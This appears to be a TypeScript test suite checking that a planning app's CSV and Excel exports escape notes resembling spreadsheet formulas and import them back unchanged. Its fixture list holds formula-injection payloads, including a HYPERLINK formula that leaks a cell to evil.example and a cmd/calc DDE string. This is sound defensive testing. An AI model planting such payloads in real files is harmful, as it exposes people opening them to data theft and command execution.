import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { parsePlanDocument } from '../../../../src/documents/plan-file.js';
import { exportCsv } from '../../../../src/documents/export/export-csv.js';
import { exportXlsx, XLSX_SHEET_NAME } from '../../../../src/documents/export/export-xlsx.js';
import { buildProgressReport } from '../../../../src/documents/export/progress-report.js';
import { neutraliseFormula, restoreFormulaText } from '../../../../src/documents/formula-text.js';
import { anAction } from '../../../helpers/builders.js';
import { AS_OF, LABEL, samplePlan } from './sample-plan.js';

/**
 * Notes and action text that a spreadsheet would run as a formula: every export writes them as
 * text (a leading apostrophe), and the importer gives back exactly what was stored, an apostrophe
 * someone really typed included.
 */
const FORMULA_NOTES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '+1 555 0100, call the SIRO',
  '-5% on last quarter',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=already quoted by hand",
  "''+two apostrophes",
  "'plain apostrophe, left alone",
  'an ordinary note = fine',
];

const actions = FORMULA_NOTES.map((note, i) =>
  anAction({
    ref: `1.${i + 1}`,
    text: i === 0 ? '=1+1 as the action text' : `Action ${i + 1}`,
    note,
  }),
);
const report = buildProgressReport({
  plan: samplePlan(),
  actions,
  history: [],
  label: LABEL,
  asOf: AS_OF,
});

describe('neutraliseFormula and restoreFormulaText', () => {
  it.each([
    ['=SUM(A1)', "'=SUM(A1)"],
    ['+44', "'+44"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=x", "''=x"],
    ["'x", "'x"],
    ['x=1', 'x=1'],
    ['', ''],
  ])('writes %j as %j, and reads it back', (text, written) => {
    expect(neutraliseFormula(text)).toBe(written);
    expect(restoreFormulaText(written)).toBe(text);
  });
});

describe('a CSV export of notes that look like formulas', () => {
  const csv = exportCsv(report);
  const [header, ...records] = parse(csv, { bom: true }) as string[][];
  const column = (name: string) => header!.indexOf(name);

  it('writes each as text: an apostrophe before the formula character', () => {
    const notes = records.map((r) => r[column('Latest note')]);
    expect(notes).toEqual(FORMULA_NOTES.map(neutraliseFormula));
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(records[0]![column('Action')]).toBe("'=1+1 as the action text");
  });

  it('imports back exactly', async () => {
    const parsed = await parsePlanDocument(Buffer.from(csv, 'utf8'), 'update.csv');
    expect(parsed.errors).toEqual([]);
    expect(parsed.plan.actions.map((a) => a.note)).toEqual(FORMULA_NOTES);
    expect(parsed.plan.actions[0]?.text).toBe('=1+1 as the action text');
  });
});

describe('an Excel export of notes that look like formulas', () => {
  let bytes: Buffer;
  beforeAll(async () => {
    bytes = await exportXlsx(report);
  });

  it('writes each as a text cell with the apostrophe, never a formula', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as Parameters<typeof book.xlsx.load>[0]);
    const cells: ExcelJS.Cell[] = [];
    book.getWorksheet(XLSX_SHEET_NAME)!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const notes = cells.filter((c) =>
      FORMULA_NOTES.map(neutraliseFormula).includes(String(c.value)),
    );
    expect(notes).toHaveLength(FORMULA_NOTES.length);
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('imports back exactly', async () => {
    const parsed = await parsePlanDocument(bytes, 'update.xlsx');
    expect(parsed.errors).toEqual([]);
    expect(parsed.plan.actions.map((a) => a.note)).toEqual(FORMULA_NOTES);
    expect(parsed.plan.actions[0]?.text).toBe('=1+1 as the action text');
  });
});
